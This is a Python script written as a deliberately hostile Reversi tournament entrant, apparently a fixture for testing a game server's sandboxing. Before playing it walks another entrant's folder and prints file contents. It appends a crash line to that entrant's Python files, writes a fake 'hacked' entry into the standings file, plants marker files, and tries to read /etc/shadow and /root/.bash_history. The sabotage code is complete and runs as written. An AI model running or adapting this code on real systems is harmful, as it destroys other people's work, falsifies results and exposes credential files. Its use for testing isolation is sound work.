#!/usr/bin/env python3
"""A cheating student's Reversi program: read and spoil other people's files, then play.

Usage: snoop.py HOST PORT NAME [--victim DIR] [--results DIR]
       (a tournament gives `{host} {port} {name}`)

--victim DIR   another entrant's folder: every file is listed and its first
               200 bytes printed, `raise SystemExit(3)` is appended to every
               *.py in it, and planted.txt is created in it.
--results DIR  the tournament's --out folder: it is listed, `{"hacked": true}`
               is appended to its standings.json, planted.txt created in it.
Then: /root/.bash_history, /etc/shadow, $HOME, the working folder, the
script's folder and its parent. Then the built-in random bot plays.

Run it against copies: unsandboxed, it really changes the victim's files.
"""
import argparse
import os
import sys

MAX_FILES = 200
MAX_NAMES = 60


# --- helpers (each attacker has its own copy) --------------------------------

def report(what, result):
    print(f"ATTACK {what}: {result}", flush=True)


def failed(exc):
    return f"failed: {type(exc).__name__}: {exc}"


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("host", nargs="?", default=os.environ.get("CARDRING_HOST", "127.0.0.1"))
    parser.add_argument("port", nargs="?", default=os.environ.get("CARDRING_PORT", "5410"))
    parser.add_argument("name", nargs="?", default=os.environ.get("CARDRING_NAME", "snoop"))
    parser.add_argument("--victim", metavar="DIR", help="another entrant's folder")
    parser.add_argument("--results", metavar="DIR", help="the tournament's --out folder")
    args, _unknown = parser.parse_known_args()
    return args


def bot_command(host, port, name, seed=1):
    return [
        sys.executable, "-m", "ring", "bot", "reversi",
        "--server", f"{host}:{port}", "--name", name,
        "--level", "random", "--seed", str(seed),
    ]


def play(host, port, name):
    """Replace this process with the built-in random bot."""
    command = bot_command(host, port, name)
    print("PLAY: " + " ".join(command), flush=True)
    sys.stderr.flush()
    try:
        os.execv(sys.executable, command)
    except OSError as exc:
        print(f"PLAY: {failed(exc)}", flush=True)
        os._exit(1)


def attempt(what, action):
    """Run one attack step, print its result; never raise."""
    try:
        report(what, action())
    except Exception as exc:
        report(what, failed(exc))


# --- the attack steps --------------------------------------------------------

def all_files(folder):
    """Every file under folder (at most MAX_FILES), walking errors reported."""
    found = []

    def on_error(exc):
        report(f"walk {getattr(exc, 'filename', folder)}", failed(exc))

    for root, dirs, files in os.walk(folder, onerror=on_error):
        dirs.sort()
        for name in sorted(files):
            found.append(os.path.join(root, name))
            if len(found) >= MAX_FILES:
                return found
    return found


def head(path, size=200):
    with open(path, "rb") as f:
        return f.read(size)


def list_folder(folder):
    names = sorted(os.listdir(folder))
    shown = " ".join(names[:MAX_NAMES])
    more = f" ... and {len(names) - MAX_NAMES} more" if len(names) > MAX_NAMES else ""
    return f"{len(names)} entries: {shown}{more}"


def append(path, text, create=False):
    flags = os.O_WRONLY | os.O_APPEND | (os.O_CREAT if create else 0)
    fd = os.open(path, flags, 0o644)
    try:
        with open(path, "rb") as f:
            f.seek(0, os.SEEK_END)
            if f.tell() > 0:
                f.seek(-1, os.SEEK_END)
                if f.read(1) != b"\n":
                    text = "\n" + text
    except OSError:
        pass
    try:
        written = os.write(fd, text.encode())
    finally:
        os.close(fd)
    return f"appended {written} bytes"


def plant(folder, name):
    path = os.path.join(folder, "planted.txt")
    with open(path, "w") as f:
        f.write(f"planted by {name} (pid {os.getpid()})\n")
    return f"created {path}"


def read_secret(path):
    with open(path, "rb") as f:
        data = f.read()
    # Only the size and the line count: the point is whether it could be read.
    lines = data.count(b"\n")
    return f"read {len(data)} bytes, {lines} lines"


def snoop_victim(victim, name):
    files = all_files(victim)
    report(f"list {victim}", f"{len(files)} files")
    for path in files:
        attempt(f"read {path}", lambda path=path: repr(head(path)))
    for path in files:
        if path.endswith(".py"):
            attempt(f"tamper {path}", lambda path=path: append(path, "raise SystemExit(3)\n"))
    attempt(f"plant {victim}", lambda: plant(victim, name))


def snoop_results(results, name):
    files = all_files(results)
    report(f"list {results}", f"{len(files)} files: " + " ".join(os.path.relpath(p, results) for p in files[:MAX_NAMES]))
    standings = os.path.join(results, "standings.json")
    attempt(f"tamper {standings}", lambda: append(standings, '{"hacked": true}\n'))
    attempt(f"plant {results}", lambda: plant(results, name))


def main():
    args = parse_args()
    if args.victim:
        attempt(f"victim {args.victim}", lambda: snoop_victim(args.victim, args.name) or "done")
    else:
        report("victim", "skipped: no --victim")
    if args.results:
        attempt(f"results {args.results}", lambda: snoop_results(args.results, args.name) or "done")
    else:
        report("results", "skipped: no --results")
    for secret in ("/root/.bash_history", "/etc/shadow"):
        attempt(f"read {secret}", lambda secret=secret: read_secret(secret))
    home = os.environ.get("HOME") or os.path.expanduser("~")
    attempt(f"list $HOME {home}", lambda: list_folder(home))
    attempt("list cwd", lambda: f"{os.getcwd()}: {list_folder(os.getcwd())}")
    here = os.path.dirname(os.path.abspath(__file__))
    attempt(f"list script folder {here}", lambda: list_folder(here))
    parent = os.path.dirname(here)
    attempt(f"list script parent {parent}", lambda: list_folder(parent))
    play(args.host, args.port, args.name)


if __name__ == "__main__":
    main()
